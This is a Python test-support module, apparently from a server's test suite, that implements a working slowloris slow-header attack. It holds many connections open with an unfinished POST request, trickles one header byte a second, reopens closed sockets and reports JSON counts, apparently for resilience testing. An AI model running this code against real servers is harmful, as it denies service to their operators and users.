"""Slow-header connections against a server, run as a process of its own.

``python -m tests.support.slowloris HOST PORT N SECONDS`` keeps N connections that send a
request line and one header, then a header byte a second, never finishing; one the server
closes is opened again a second later (slowloris recreates its closed sockets on each
round). It prints ``{"opened_in", "connections", "closed_by_server", "connect_failed"}``
as JSON when it stops, and ``ready`` on a line of its own once all N are open.
"""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time

import msgspec


async def _attacker(
    host: str,
    port: int,
    stop: asyncio.Event,
    counts: dict[str, float],
    n: int,
    all_open: asyncio.Event,
) -> None:
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            counts["connect_failed"] += 1
            await asyncio.sleep(1.0)
            continue
        counts["connections"] += 1
        if counts["connections"] >= n:
            all_open.set()
        try:
            writer.write(b"POST /notifications HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            while not stop.is_set():
                writer.write(b"a")
                await writer.drain()
                try:
                    if await asyncio.wait_for(reader.read(1024), 1.0) == b"":
                        counts["closed_by_server"] += 1
                        break
                except TimeoutError:
                    continue
        except (ConnectionError, OSError):
            counts["closed_by_server"] += 1
        finally:
            writer.close()
        await asyncio.sleep(1.0)


async def main(host: str, port: int, n: int, seconds: float) -> None:
    stop = asyncio.Event()
    counts: dict[str, float] = {"connections": 0, "closed_by_server": 0, "connect_failed": 0}
    started = time.monotonic()
    all_open = asyncio.Event()
    tasks = [
        asyncio.create_task(_attacker(host, port, stop, counts, n, all_open)) for _ in range(n)
    ]
    with contextlib.suppress(TimeoutError):  # reported by the counts
        await asyncio.wait_for(all_open.wait(), 30)
    counts["opened_in"] = round(time.monotonic() - started, 2)
    print("ready", flush=True)
    await asyncio.sleep(max(0.0, seconds - (time.monotonic() - started)))
    stop.set()
    for task in tasks:  # at once: an attacker waiting for a byte or a second closes now
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(msgspec.json.encode(counts).decode(), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
